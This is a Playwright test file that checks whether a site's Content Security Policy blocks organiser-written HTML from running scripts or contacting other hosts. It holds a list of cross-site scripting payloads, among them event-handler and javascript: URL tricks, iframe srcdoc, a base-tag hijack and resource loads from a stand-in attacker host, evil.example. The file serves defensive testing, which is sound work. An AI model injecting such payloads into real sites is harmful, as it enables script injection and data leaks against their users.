import { expect, test } from '../fixtures/test';

const RUN = (name: string) => `(globalThis.ran ??= []).push('${name}')`;

/** What would run if nothing looked through the HTML that organisers write. */
const PAYLOADS = [
  `<script>${RUN('inline script')}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src="data:text/javascript,${RUN('data script')}"></script>`,
  `<script type="module">${RUN('module')}</script>`,
  `<img src="/none.png" onerror="${RUN('error')}">`,
  `<svg onload="${RUN('svg')}"><animate onbegin="${RUN('animation')}" attributeName="x" dur="1s"/></svg>`,
  `<svg><script>${RUN('script of a drawing')}</script></svg>`,
  `<details open ontoggle="${RUN('toggle')}">x</details>`,
  `<input autofocus onfocus="${RUN('focus')}">`,
  `<iframe srcdoc="<script>(parent.ran ??= []).push('srcdoc')</script>"></iframe>`,
  `<iframe src="javascript:parent.eval('${RUN('frame').replaceAll("'", '&quot;')}')"></iframe>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body { background: url("https://evil.example/style") }</style>`,
  `<p style="background: url('https://evil.example/attribute')">x</p>`,
  `<video src="https://evil.example/video"></video><img src="https://evil.example/pixel">`,
  `<a id="link" href="javascript:${RUN('link')}">link</a>`,
];

test(
  'without the sanitiser the content policy alone keeps what organisers write from running or asking others',
  { tag: '@once' },
  async ({ page, context, problems }) => {
    problems.expect(/Content Security Policy|none\.png|javascript:|evil\.example/);
    const asked: string[] = [];
    await context.route('https://evil.example/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: RUN('foreign script') });
    });
    // As if it came with the page, and as if a script put it there.
    await page.route('**/about-us', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const body = html.replace('</body>', `<div>${PAYLOADS.join('')}</div></body>`);
      expect(body).not.toBe(html);
      return route.fulfill({ response, body });
    });
    await page.goto('/about-us');
    await page.evaluate((payloads) => {
      for (const payload of payloads) {
        const holder = document.createElement('div');
        document.body.append(holder);
        holder.innerHTML = payload;
      }
    }, PAYLOADS);
    await expect(page.getByRole('contentinfo')).toBeVisible();
    await page.evaluate(async () => {
      document.getElementById('link')?.click();
      await new Promise((resolve) => setTimeout(resolve));
    });
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect(asked).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/about-us');
    // Without the policy the same page runs them: the payloads are good ones.
    await page.unroute('**/about-us');
    await page.route('**/about-us', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>x</title>${PAYLOADS.join('')}`,
      }),
    );
    await page.goto('/about-us');
    await expect
      .poll(() => page.evaluate(() => Reflect.get(globalThis, 'ran')))
      .toEqual(expect.arrayContaining(['inline script', 'error', 'srcdoc']));
  },
);
